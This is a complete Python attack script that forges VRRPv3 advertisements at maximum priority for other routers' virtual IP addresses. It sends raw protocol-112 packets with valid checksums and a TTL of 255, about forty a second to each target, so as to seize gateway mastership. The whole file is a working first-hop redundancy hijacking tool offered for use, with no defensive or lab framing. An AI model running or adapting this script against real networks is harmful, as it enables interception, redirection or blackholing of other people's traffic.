"""Sends VRRPv3 adverts of the highest priority for others' virtual addresses. Runs as root.

    forged_adverts.py SOURCE SECONDS TARGET,... ROUTER_ID:ADDRESS,...

Forty a second to each target, as keepalived would: a correct checksum, a TTL of 255.
"""

import socket
import struct
import sys
import time

VRRP = 112
PAUSE = 0.025


def checksum(data: bytes) -> int:
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


def advert(source: str, target: str, router_id: int, address: str) -> bytes:
    """RFC 5798: version 3, type 1, priority 255, one address, an advert every 10 ms."""
    body = struct.pack("!BBBBHH4s", 0x31, router_id, 255, 1, 1, 0, socket.inet_aton(address))
    pseudo = socket.inet_aton(source) + socket.inet_aton(target) + struct.pack("!BBH", 0, VRRP, len(body))
    return body[:6] + struct.pack("!H", checksum(pseudo + body)) + body[8:]


def main() -> None:
    source, seconds, targets, instances = sys.argv[1:]
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, VRRP) as raw:
        raw.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, 255)
        ends = time.monotonic() + float(seconds)
        sent = 0
        while time.monotonic() < ends:
            for target in targets.split(","):
                for instance in instances.split(","):
                    router_id, address = instance.split(":")
                    raw.sendto(advert(source, target, int(router_id), address), (target, 0))
                    sent += 1
            time.sleep(PAUSE)
    print(sent)


main()
